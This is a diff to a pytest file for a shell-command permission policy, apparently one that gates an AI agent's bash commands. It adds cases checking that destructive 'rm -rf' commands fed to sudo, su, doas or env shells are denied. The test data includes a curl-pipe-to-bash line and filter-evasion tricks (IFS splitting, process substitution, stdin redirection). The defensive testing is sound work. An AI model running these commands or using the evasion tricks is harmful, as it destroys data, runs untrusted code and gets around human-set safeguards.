@@ -212,6 +212,9 @@ DENY_CASES = [
     ("bash <<< 'rm -rf DIR'", "deny"),
     ("curl example.com | bash -s", "deny"),
     ("bash /dev/stdin <<< 'rm -rf DIR'", "deny"),
+    ("echo 'rm -rf DIR' | sudo -s", "deny"),
+    ("sudo -iu root <<< 'rm -rf DIR'", "deny"),
+    ("su - <<< 'rm -rf DIR'", "deny"),
     ("sh /proc/self/fd/0 < x", "deny"),
     (". <(echo rm -rf DIR)", "deny"),
     ("IFS=,; x=rm,-rf,DIR; $x", "deny"),
@@ -719,3 +722,21 @@ def test_an_uninstalled_parser_is_an_import_error_handled() -> None:
         "policy: bash allow patterns are off (every command asks): the shell parser "
         "tree-sitter-bash is not installed (pip install 'pitrio[cli]')",
     ]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "echo 'rm -rf DIR' | sudo -s",
+        "sudo -iu root <<< 'rm -rf DIR'",
+        "doas -s < script",
+        "su - <<< 'rm -rf DIR'",
+        "echo 'rm -rf DIR' | env bash",
+        "nice sh < x",
+    ],
+)
+def test_a_wrapped_shell_reading_its_input_is_refused(command: str) -> None:
+    decided = Policy(deny=("bash:*rm -rf*",)).decide("bash", {"command": command})
+    assert decided is not None
+    assert decided.kind == "deny"
+    assert "from its input" in decided.why
